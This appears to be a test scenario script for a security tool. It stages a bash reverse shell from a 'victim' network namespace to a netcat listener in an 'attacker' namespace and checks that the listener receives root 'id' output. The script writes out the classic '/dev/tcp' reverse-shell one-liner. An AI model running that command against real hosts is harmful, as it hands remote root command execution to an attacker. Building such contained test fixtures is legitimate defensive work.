#!/usr/bin/env bash
# reverse_shell: the classic bash one-liner from namespace "victim" to a
# netcat listener in namespace "attacker". The listener sends `id` and
# `exit`, so the shell really runs a command and then ends the session.
set -euo pipefail
source "$(dirname "$0")/../lib.sh"

command -v nc >/dev/null || die "nc not installed (ci/deps.sh installs netcat-openbsd)"

make_ns attacker
make_ns victim
veth_pair attacker victim 198.18.1.1/30 198.18.1.2/30

# The attacker's commands, sent as soon as the shell connects.
cmds="$PICKET_SCENARIO_TMP/commands"
printf 'id\nexit\n' >"$cmds"
SPAWN_STDIN=$cmds spawn_in_ns attacker listener nc -l 198.18.1.1 4444
listener=$SPAWNED_PID
wait_port attacker 198.18.1.1 4444

# An empty HOME: the interactive shell must not read the host's ~/.bashrc.
home=$(tmpdir victim-home)
log "victim: bash -c 'bash -i >& /dev/tcp/198.18.1.1/4444 0>&1'"
rc=0
HOME=$home in_ns victim timeout 10 bash -c 'bash -i >& /dev/tcp/198.18.1.1/4444 0>&1' || rc=$?
[ "$rc" -eq 0 ] || die "the reverse shell exited with $rc (124: timed out)"

# The listener ends when the shell closes the connection.
for ((i = 0; i < 100; i++)); do
	kill -0 "$listener" 2>/dev/null || break
	sleep 0.05
done
got=$(cat "$PICKET_SCENARIO_TMP/listener.log")
printf '%s\n' "$got" | while IFS= read -r line; do log "attacker's listener received: $line"; done
case $got in *"uid=0(root)"*) ;; *) die "the listener did not receive the output of id: $got" ;; esac
